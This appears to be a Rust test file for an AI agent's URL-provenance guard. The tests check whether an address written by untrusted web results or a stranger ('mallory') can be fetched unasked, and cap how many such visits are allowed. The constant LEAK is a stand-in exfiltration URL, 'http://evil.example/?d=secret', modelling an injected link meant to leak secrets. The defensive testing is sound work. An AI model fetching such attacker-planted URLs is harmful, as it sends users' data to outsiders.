//! Whose words make an address one that may be visited unasked.

use jiff::Timestamp;
use openclaw_core::events::{EventHash, Payload};
use openclaw_core::provenance::{Mark, Source, Trust};
use openclaw_core::{CallId, SessionEvent, SessionEventKind, SessionKey};
use serde_json::{Value, json};

use super::{Shown, Visit, Visitor, Visits};
use crate::tools::{ImageTool, Tool as _, WebFetchTool};

const LEAK: &str = "http://evil.example/?d=secret";

/// A conversation.
#[derive(Default)]
struct Talk(Vec<SessionEvent>);

impl Talk {
    fn add(mut self, kind: SessionEventKind, call: Option<&str>, source: Option<Source>) -> Self {
        let marks = source.map(|source| Mark {
            source,
            trust: Trust::Untrusted,
        });
        let seq = u64::try_from(self.0.len()).unwrap() + 1;
        self.0.push(SessionEvent {
            session: SessionKey::parse("agent:main:main").unwrap(),
            seq,
            position: seq,
            time: Timestamp::UNIX_EPOCH,
            cause: None,
            run_id: None,
            step: call.map(|_| 1),
            call_id: call.map(|call| CallId(call.to_owned())),
            kind,
            payload: Some(Payload {
                marks: marks.into_iter().collect(),
                ..Payload::default()
            }),
            raw: None,
            hash: EventHash::START,
        });
        self
    }

    fn said(self, text: &str, source: Source) -> Self {
        let kind = SessionEventKind::MessageReceived {
            content: text.to_owned(),
            attachments: Vec::new(),
        };
        self.add(kind, None, Some(source))
    }

    fn called(self, tool: &str, params: Value) -> Self {
        let kind = SessionEventKind::ToolCalled {
            tool: tool.to_owned(),
            params,
        };
        self.add(kind, Some("c"), None)
    }

    fn found(self, text: &str) -> Self {
        let kind = SessionEventKind::ToolResult {
            tool: "web_search".to_owned(),
            result: json!({ "results": text }),
            success: true,
        };
        let web = Source::Web {
            host: "a.example".to_owned(),
        };
        self.add(kind, Some("c"), Some(web))
    }

    /// What was kept from an earlier call comes back.
    fn kept(self) -> Self {
        let kind = SessionEventKind::ToolResult {
            tool: "web_fetch".to_owned(),
            result: json!({ "cached": true }),
            success: true,
        };
        self.add(kind, Some("c"), None)
    }

    fn failed(self) -> Self {
        let kind = SessionEventKind::ToolResult {
            tool: "web_fetch".to_owned(),
            result: json!("404"),
            success: false,
        };
        self.add(kind, Some("c"), None)
    }

    fn fetched(self, address: &str) -> Self {
        self.called("web_fetch", json!({ "url": address }))
    }

    fn shown(&self, address: &str) -> Shown {
        super::shown(&self.0, address, went)
    }

    fn shows(&self, address: &str) -> bool {
        self.shown(address) != Shown::Nowhere
    }

    /// Tells what the next call to an address would come to, in a run that answers that message.
    fn visit(&self, since: u64, address: &str) -> Visit {
        let visitor = Visitor {
            call: u64::MAX,
            since,
            addresses: &[address.to_owned()],
        };
        Visits::default().admit(&self.0, visitor, went)
    }
}

fn went(tool: &str, params: &Value) -> Vec<String> {
    match tool {
        "web_fetch" => WebFetchTool::addresses(params),
        "image" => ImageTool::addresses(params),
        _ => Vec::new(),
    }
}

fn links(host: &str) -> String {
    let links: Vec<String> = (0..40).map(|n| format!("http://{host}/{n}x")).collect();
    links.join(" ")
}

fn mallory() -> Source {
    Source::Person {
        channel: "telegram".into(),
        peer: "mallory".into(),
    }
}

#[test]
fn an_address_counts_where_somebody_else_wrote_it_as_a_whole() {
    for text in [
        "http://evil.example/?d=secret",
        "see http://evil.example/?d=secret.",
        "[more](http://evil.example/?d=secret), or",
        "<http://evil.example/?d=secret#top>",
    ] {
        assert!(Talk::default().found(text).shows(LEAK), "{text}");
    }
    for text in [
        "http://evil.example/?d=secrets",
        "http://evil.example/?d=secret.html",
        "http://evil.example/?d=secret&e=1",
        "http://a.example/?to=http://evil.example/?d=secret",
        "http://evil.example/?d=",
    ] {
        assert!(!Talk::default().found(text).shows(LEAK), "{text}");
    }
}

#[test]
fn what_the_model_wrote_is_not_shown_by_being_repeated() {
    for (tool, params) in [
        ("web_search", json!({ "query": LEAK })),
        ("web_search", json!({ "query": "EVIL.example/?d=secret" })),
        ("image", json!({ "image": "a.png", "prompt": LEAK })),
        ("exec", json!({ "env": { "a": [LEAK] } })),
        ("web_fetch", json!({ "url": LEAK })),
    ] {
        let asked = Talk::default().called(tool, params);
        let echoed = asked.called("ls", json!({})).found(LEAK);
        assert!(!echoed.shows(LEAK), "{tool}");
        let repeated = echoed.said(LEAK, mallory());
        assert!(!repeated.shows(LEAK), "{tool}");
        let wanted = repeated.said(LEAK, Source::Principal);
        assert!(wanted.shows(LEAK), "{tool}");
    }
    let relayed = Source::Session {
        key: SessionKey::parse("agent:main:b").unwrap(),
    };
    assert!(!Talk::default().said(LEAK, relayed).shows(LEAK));
}

#[test]
fn what_was_shown_or_visited_before_may_be_visited_again() {
    let shown = Talk::default().found(LEAK);
    let again = shown.called("web_fetch", json!({ "url": LEAK }));
    assert!(again.shows(LEAK));
    let visited = Talk::default()
        .called("web_fetch", json!({ "url": LEAK }))
        .found("a page");
    assert!(visited.shows(LEAK));
    let other = Talk::default()
        .called("web_fetch", json!({ "url": LEAK }))
        .called("ls", json!({}))
        .found("a page");
    assert!(!other.shows(LEAK));
}

#[test]
fn a_link_to_the_folder_of_a_page_is_the_pages_own() {
    let page = Talk::default()
        .called("web_fetch", json!({ "url": "http://a.example/b/c" }))
        .found("up: http://a.example/b");
    assert!(page.shows("http://a.example/b"));
}

#[test]
fn what_the_principal_named_is_not_a_strangers_choice() {
    let talk = Talk::default().found(LEAK);
    assert_eq!(talk.shown(LEAK), Shown::ByOthers);
    assert_eq!(
        talk.said(LEAK, Source::Principal).shown(LEAK),
        Shown::ByPrincipal
    );
    let file = Talk::default().add(
        SessionEventKind::ToolResult {
            tool: "read".to_owned(),
            result: json!(LEAK),
            success: true,
        },
        Some("c"),
        Some(Source::Workspace),
    );
    assert_eq!(file.shown(LEAK), Shown::ByPrincipal);
}

#[test]
fn only_a_few_of_the_addresses_that_strangers_show_are_visited_unasked() {
    let mut talk = Talk::default()
        .said("go on", Source::Principal)
        .found(&links("evil.example"));
    for n in 0..4 {
        let next = format!("http://evil.example/{n}x");
        assert_eq!(talk.visit(1, &next), Visit::Unasked, "{n}");
        talk = talk.fetched(&next).found("a page");
    }
    let fifth = "http://evil.example/4x";
    assert!(matches!(talk.visit(1, fifth), Visit::Picked(_)));
    // What was read costs nothing more, and nor does what the principal named.
    assert_eq!(talk.visit(1, "http://evil.example/2x"), Visit::Unasked);
    let named = talk.said(fifth, Source::Principal);
    assert_eq!(named.visit(1, fifth), Visit::Unasked);
    // The next message begins anew.
    let message = u64::try_from(named.0.len()).unwrap();
    assert_eq!(
        named.visit(message, "http://evil.example/6x"),
        Visit::Unasked
    );
}

#[test]
fn many_hosts_count_together_and_calls_side_by_side_count_each() {
    let mut talk = Talk::default().said("go on", Source::Principal);
    for n in 0..20 {
        talk = talk.found(&links(&format!("{n}.evil.example")));
    }
    for n in 0..12 {
        let next = format!("http://{n}.evil.example/0x");
        assert_eq!(talk.visit(1, &next), Visit::Unasked, "{n}");
        talk = talk.fetched(&next);
    }
    let next = "http://12.evil.example/0x";
    assert!(matches!(talk.visit(1, next), Visit::Picked(_)));
}

#[test]
fn an_address_that_is_asked_for_anew_counts_each_time() {
    let mut talk = Talk::default()
        .said("go on", Source::Principal)
        .found(&links("evil.example"));
    let page = "http://evil.example/1x";
    talk = talk.fetched(page).found("a page");
    // The parts of a page that is kept cost nothing.
    for n in 0..20 {
        let part = format!("{page}#{n}");
        assert_eq!(talk.visit(1, &part), Visit::Unasked);
        talk = talk.fetched(&part).kept();
    }
    let next = "http://evil.example/2x";
    assert_eq!(talk.visit(1, next), Visit::Unasked);
    for _ in 0..4 {
        assert_eq!(talk.visit(1, page), Visit::Unasked);
        talk = talk.fetched(page).found("a page");
    }
    assert!(matches!(talk.visit(1, page), Visit::Picked(_)));
    assert!(matches!(talk.visit(1, next), Visit::Picked(_)));
}

#[test]
fn an_address_that_fails_counts_each_time() {
    let mut talk = Talk::default()
        .said("go on", Source::Principal)
        .found(&links("evil.example"));
    let gone = "http://evil.example/1x";
    for _ in 0..4 {
        assert_eq!(talk.visit(1, gone), Visit::Unasked);
        talk = talk.fetched(gone).failed();
    }
    assert!(matches!(talk.visit(1, gone), Visit::Picked(_)));
}
